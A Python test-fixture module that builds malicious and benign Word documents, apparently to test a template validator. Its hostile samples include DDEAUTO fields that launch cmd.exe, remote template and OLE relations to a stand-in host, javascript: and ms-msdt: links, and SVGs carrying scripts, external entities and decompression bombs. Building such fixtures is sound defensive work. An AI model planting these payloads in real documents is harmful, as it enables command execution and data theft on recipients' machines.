"""Word templates that lead outside or run something, made by changing a plain one."""

import gzip
import io
import zipfile
from collections.abc import Callable, Mapping
from functools import cache

from docx import Document

Change = Callable[[dict[str, str]], None]
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SVG = "http://www.w3.org/2000/svg"
_TYPES = "[Content_Types].xml"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(*changes: Change, text: str = "{{ report.team }}") -> bytes:
    """Return a Word document of one paragraph, changed."""
    out = io.BytesIO()
    parts = dict(_parts(text))
    for change in changes:
        change(parts)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for name, part in parts.items():
            new.writestr(name, part.encode("latin-1"))
    return out.getvalue()


@cache
def _parts(text: str) -> Mapping[str, str]:
    plain = io.BytesIO()
    document = Document()
    document.add_paragraph(text)
    document.save(plain)
    with zipfile.ZipFile(plain) as made:
        return {name: made.read(name).decode("latin-1") for name in made.namelist()}


def relation(kind: str, target: str, *, part: str = "word/document.xml", mode: str = "External") -> Change:
    """Return a change that adds a relation of a part."""
    folder, _, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    start = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'

    def change(parts: dict[str, str]) -> None:
        told = f' TargetMode="{mode}"' if mode else ""
        address = kind if "://" in kind else f"{_RELATIONS}/{kind}"
        line = f'<Relationship Id="rIdX" Type="{address}" Target="{target}"{told}/>'
        parts.setdefault(rels, f"{start}</Relationships>")
        parts[rels] = parts[rels].replace("</Relationships>", f"{line}</Relationships>")

    return change


def within(markup: str, part: str = "word/document.xml", before: str = "</w:body>") -> Change:
    """Return a change that puts markup into a part, at its end."""

    def change(parts: dict[str, str]) -> None:
        assert before in parts[part]
        parts[part] = parts[part].replace(before, f"{markup}{before}", 1)

    return change


def picture(inside: str, *, name: str = "p.svg", before: str = "", packed: bool = False) -> Change:
    """Return a change that adds an SVG picture as a part, with ``before`` in front of its first element."""
    data = f'{before}<svg xmlns="{_SVG}" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'.encode()

    def change(parts: dict[str, str]) -> None:
        parts[f"word/media/{name}"] = (gzip.compress(data) if packed else data).decode("latin-1")

    return change


def field(*pieces: str) -> Change:
    """Return a change that adds a field; its code stands in several runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return within(f"<w:p>{_char('begin')}{runs}{_char('separate')}<w:r><w:t>x</w:t></w:r>{_char('end')}</w:p>")


def _char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _text(code: str) -> str:
    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"


def renamed(old: str, new: str, kind: str) -> Change:
    """Return a change that gives a part another name, by which its content type and relations know it too."""

    def change(parts: dict[str, str]) -> None:
        parts[new] = parts.pop(old)
        for name, part in parts.items():
            if name.lower().endswith(".rels") or name == _TYPES:
                parts[name] = part.replace(old.rpartition("/")[2], new.rpartition("/")[2])
        if f'PartName="/{new}"' not in parts[_TYPES]:
            override = f'<Override PartName="/{new}" ContentType="{kind}"/>'
            parts[_TYPES] = parts[_TYPES].replace("</Types>", f"{override}</Types>")

    return change


_MADE_INSIDE = (
    f"<w:p>{_char('begin')}{_char('begin')}{_text('IF 1 = 1 DDEAUTO')}{_char('end')}{_text(' c:/x.exe')}"
    f"{_char('end')}</w:p>"
)
_VML = '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml">{}</v:rect></w:pict></w:r></w:p>'

_LETTERS = within("<w:mailMerge/>", "word/settings.xml", "<w:defaultTabStop")
_OPEN = "application/vnd.openxmlformats"
_SETTINGS = f"{_OPEN}-officedocument.wordprocessingml.settings+xml"
_RELATIONS_TYPE = f"{_OPEN}-package.relationships+xml"

HOSTILE: Mapping[str, tuple[bytes, str]] = {
    "picture": (word(relation("image", "http://x.example/p.png")), "document.xml.rels leads outside (image)"),
    "picture of the file system": (word(relation("image", "file:///c:/x.png")), "leads outside (image)"),
    "picture of a share": (word(relation("image", "\\\\x.example\\p.png")), "leads outside (image)"),
    "picture without a mode": (word(relation("image", "http://x.example/p", mode="")), "leads outside (image)"),
    "template": (
        word(relation("attachedTemplate", "http://x.example/t.dotm", part="word/settings.xml")),
        "settings.xml.rels holds what a report may not (attachedTemplate)",
    ),
    "object": (word(relation("oleObject", "http://x.example/o")), "(oleObject)"),
    "object inside": (word(relation("oleObject", "embeddings/o.bin", mode="")), "(oleObject)"),
    "page inside": (word(relation("aFChunk", "x.html", mode="")), "(aFChunk)"),
    "document inside": (word(relation("subDocument", "http://x.example/d.docx")), "(subDocument)"),
    "frame": (word(relation("frame", "http://x.example/f.html", part="word/webSettings.xml")), "(frame)"),
    "macros": (
        word(relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", mode="")),
        "(vbaProject)",
    ),
    "control": (word(relation("control", "activeX/activeX1.xml", mode="")), "(control)"),
    "bar of buttons": (
        word(relation("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "ui.xml", mode="")),
        "(extensibility)",
    ),
    "addresses of letters": (
        word(relation("mailMergeSource", "file:///c:/x.xlsx", part="word/settings.xml")),
        "(mailMergeSource)",
    ),
    "letters": (word(_LETTERS), "settings.xml fetches letters"),
    "workbook that is none": (word(relation("package", "embeddings/x.xlsm", mode="")), "(package)"),
    "link that runs": (word(relation("hyperlink", "javascript:alert(1)")), "leads outside (hyperlink)"),
    "link to a file": (word(relation("hyperlink", "file://x.example/share/x.exe")), "leads outside (hyperlink)"),
    "link to a tool": (word(relation("hyperlink", "ms-msdt:/id")), "leads outside (hyperlink)"),
    "DDEAUTO": (word(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "document.xml has a field"),
    "DDE in pieces": (word(field("DD", "E cmd", " /c calc")), "has a field"),
    "dde in small letters": (word(field(" ddeauto cmd")), "has a field"),
    "DDE in a simple field": (word(within('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>')), "has a field"),
    "DDE that a field makes": (word(within(_MADE_INSIDE)), "has a field"),
    "DDE in what was deleted": (
        word(within(f"<w:p>{_char('begin')}<w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r>{_char('end')}</w:p>")),
        "has a field",
    ),
    "DDE that never ends": (word(within(f"<w:p>{_char('begin')}{_text('DDE cmd')}</w:p>")), "has a field"),
    "INCLUDEPICTURE": (word(field('INCLUDEPICTURE "http://x.example/p.png" \\d')), "has a field"),
    "INCLUDETEXT": (word(field('INCLUDETEXT "//x.example/share/t.docx"')), "has a field"),
    "LINK": (word(field("LINK Excel.Sheet.8 c:/x.xlsx")), "has a field"),
    "QUOTE": (word(field("QUOTE 68 68 69")), "has a field"),
    "MACROBUTTON": (word(field("MACROBUTTON x y")), "has a field"),
    "DATABASE": (word(field("DATABASE x")), "has a field"),
    "HYPERLINK": (word(field('HYPERLINK "file:///c:/x.exe"')), "leads outside"),
    "HYPERLINK to a share": (word(field('HYPERLINK "\\\\x.example\\x"')), "leads outside"),
    "old drawing": (word(within(_VML.format('<v:imagedata src="http://x.example/p.png"/>'))), "leads outside"),
    "old fill": (
        word(within(_VML.format('<v:fill src="//x.example/p" xmlns:o="urn:schemas-microsoft-com:office:office"/>'))),
        "leads outside",
    ),
    "letters in a part that is not named as XML": (
        word(_LETTERS, renamed("word/settings.xml", "word/settings.dat", _SETTINGS)),
        "document.xml.rels leads to a part whose name does not end in .xml (settings): settings.dat",
    ),
    "letters in a part that is named as a picture": (
        word(_LETTERS, renamed("word/settings.xml", "word/settings.jpeg", _SETTINGS)),
        "does not end in .xml (settings): settings.jpeg",
    ),
    "letters in a part that is named in capitals": (
        word(_LETTERS, renamed("word/settings.xml", "word/settings.XML", _SETTINGS)),
        "settings.XML fetches letters",
    ),
    "template of a part that is named in capitals": (
        word(
            relation("attachedTemplate", "http://x.example/t.dotm", part="word/settings.xml"),
            renamed("word/_rels/settings.xml.rels", "word/_rels/settings.xml.Rels", _RELATIONS_TYPE),
        ),
        "settings.xml.Rels holds what a report may not (attachedTemplate)",
    ),
    "name that only begins as XML": (word(relation("header", "h.dat?.xml", mode="")), "(header): h.dat?.xml"),
    "broken part": (word(within("<w:p", before="</w:body>")), "document.xml is damaged"),
    "script in a picture": (
        word(picture("<script>x()</script>")),
        "word/media/p.svg is a picture that asks for <script",
    ),
    "script in a picture that is called XML": (
        word(picture("<script>x()</script>", name="p.xml")),
        "word/media/p.xml is a picture that asks for <script",
    ),
    "picture that is called relations": (
        word(picture('<image href="http://x.example/p.png"/>', name="p.rels")),
        "word/media/p.rels is a picture that asks for http://x.example/p.png",
    ),
    "event in a picture": (word(picture('<path onload="x()"/>')), 'p.svg is a picture that asks for onload="x()"'),
    "picture in a picture": (
        word(picture('<image xlink:href="http://x.example/p.png"/>')),
        "p.svg is a picture that asks for http://x.example/p.png",
    ),
    "drawing in a drawing": (
        word(picture('<image href="data:image/svg+xml;base64,AA"/>')),
        "a picture in this picture",
    ),
    "symbol of another drawing": (word(picture('<use href="//x.example/s.svg#a"/>')), "asks for //x.example/s.svg#a"),
    "style of a picture": (
        word(picture(r"<style>path { fill: u\72l(http://x.example/p) }</style>")),
        "asks for url(http://x.example/p)",
    ),
    "fill of a picture": (word(picture('<path fill="url(http://x.example/p#a)"/>')), "url(http://x.example/p#a)"),
    "page in a picture": (
        word(picture('<g><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://x.example/"/></g>')),
        "asks for <iframe>",
    ),
    "change of an address in a picture": (
        word(picture('<image><set attributeName="href" to="http://x.example/p.png"/></image>')),
        "asks for <set>",
    ),
    "style sheet of a picture": (
        word(picture("", before='<?xml-stylesheet href="http://x.example/s.css"?>')),
        "asks for <?xml-stylesheet?>",
    ),
    "words that a picture declares": (
        word(picture("<title>&a;</title>", before='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///c:/x">]>')),
        "asks for words that it declares itself",
    ),
    "type of a picture": (
        word(picture("", before='<!DOCTYPE svg SYSTEM "http://x.example/s.dtd">')),
        "asks for http://x.example/s.dtd",
    ),
    "drawing that is named as a photo": (
        word(picture("<script/>", name="p.png")),
        "media/p.png is a picture",
    ),
    "packed drawing": (
        word(picture("<script/>", name="p.svgz", packed=True)),
        "media/p.svgz is a picture",
    ),
    "packed drawing that is named as a photo": (
        word(picture("<script/>", name="p.png", packed=True)),
        "media/p.png is a picture that asks for <script>",
    ),
    "broken drawing": (word(picture("<path")), "media/p.svg is damaged"),
    "drawing that unpacks to much": (
        word(picture(f"<desc>{'a' * 5_000_000}</desc>", name="p.svgz", packed=True)),
        "media/p.svgz is a picture that asks for more than 5 MB",
    ),
    "large drawing that is named as a photo": (
        word(picture(f"<desc>{'a' * 5_000_000}</desc>", name="p.png")),
        "media/p.png is a picture that asks for more than 5 MB",
    ),
    "drawing that is named as a font": (word(picture("<script/>", name="p.odttf")), "media/p.odttf is a picture"),
    "broken drawing that is named as a photo": (word(picture("<path", name="p.png")), "media/p.png is damaged"),
}
"""Each with the beginning of what is said of it."""
HARMLESS: Mapping[str, bytes] = {
    "plain": word(),
    "number of the page": word(field("PAGE"), field(" NUMPAGES  \\* MERGEFORMAT ")),
    "contents": word(field('TOC \\o "1-3" \\h')),
    "sum": word(field("=SUM(ABOVE)")),
    "link": word(field('HYPERLINK "https://x.example/"'), relation("hyperlink", "mailto:a@x.example")),
    "link within": word(field('HYPERLINK \\l "_Toc1"')),
    "drawing": word(
        picture(
            '<style>.a { fill: url(#g) }</style><linearGradient id="g"/><use href="#a"/>'
            '<path class="a" clip-path="url(#c)"/>'
            '<image xlink:href="data:image/png;base64,AA"/>'
            '<page xmlns="http://drawing.example/" href="http://drawing.example/"/>',
            before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        )
    ),
    "drawing that is called XML": word(picture('<path d="M0 0H1"/>', name="p.xml")),
    "packed picture that is no drawing": word(picture("", name="p.emz", before="\1\0\0\0", packed=True)),
    "scrambled font that begins as a drawing": word(picture("<path", name="p.odttf")),
    "numbers of a chart": word(relation("package", "../embeddings/x.xlsx", part="word/charts/c.xml", mode="")),
}
MADE_IN_FILLING: Mapping[str, bytes] = {
    "field": word(field("{{ 'DDE' }}AUTO cmd")),
    "field in pieces": word(field("{{ 'PAGE' if false else 'DDE cmd' }}")),
}
"""What only the filled document holds."""
